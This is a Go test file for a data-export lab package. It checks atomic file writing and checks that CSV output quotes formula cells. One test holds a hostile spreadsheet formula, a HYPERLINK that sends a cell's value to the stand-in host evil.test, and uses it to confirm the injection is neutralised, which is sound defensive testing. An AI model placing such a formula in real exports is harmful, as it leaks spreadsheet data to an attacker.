package lab

import (
	"bytes"
	"encoding/csv"
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"sitesift/app/export"
)

// TestWriteFilesAtomic: when a file cannot be put in place, the
// temporary files are removed and no target is left half-written.
func TestWriteFilesAtomic(t *testing.T) {
	dir := t.TempDir()
	files := []File{{"a.csv", []byte("x,y\n1,2\n")}, {"b.svg", []byte("<svg/>")}}
	if err := WriteFiles(dir, files); err != nil {
		t.Fatal(err)
	}
	if data, _ := os.ReadFile(filepath.Join(dir, "a.csv")); string(data) != "x,y\n1,2\n" {
		t.Errorf("a.csv holds %q", data)
	}
	// b.svg cannot be replaced by a file once it is a non-empty directory.
	os.Remove(filepath.Join(dir, "b.svg"))
	os.MkdirAll(filepath.Join(dir, "b.svg", "inside"), 0o755)
	if err := WriteFiles(dir, []File{{"c.csv", []byte("new")}, {"b.svg", []byte("<svg/>")}, {"d.csv", []byte("d")}}); err == nil {
		t.Fatal("writing over a directory succeeded")
	}
	if tmps, _ := filepath.Glob(filepath.Join(dir, "*.tmp")); len(tmps) > 0 {
		t.Errorf("temporary files left: %q", tmps)
	}
	if _, err := os.Stat(filepath.Join(dir, "d.csv")); !os.IsNotExist(err) {
		t.Error("a file after the failure was written")
	}
	// The output directory's path is a file: nothing is written at all.
	blocked := filepath.Join(dir, "a.csv", "sub")
	if err := WriteFiles(blocked, files); err == nil {
		t.Error("writing under a file succeeded")
	}
}

// TestOutputCSVNeutralises: an experiment's CSV files go through export's
// writer, so a cell a spreadsheet would run as a formula is quoted and a
// negative number is left as it is.
func TestOutputCSVNeutralises(t *testing.T) {
	const hostile = `=HYPERLINK("http://evil.test/?"&A1,"x")`
	o := &Output{Experiment: "x"}
	if err := o.add("x.csv", [][]string{{"graph", "value"}, {hostile, "-0.25"}}, nil); err != nil {
		t.Fatal(err)
	}
	rows, err := csv.NewReader(bytes.NewReader(o.Files[0].Data)).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := [][]string{{"graph", "value"}, {export.Cell(hostile), "-0.25"}}
	if !slices.EqualFunc(rows, want, slices.Equal) || !strings.HasPrefix(rows[1][0], "'") {
		t.Errorf("rows %q, want %q with the formula quoted", rows, want)
	}
}
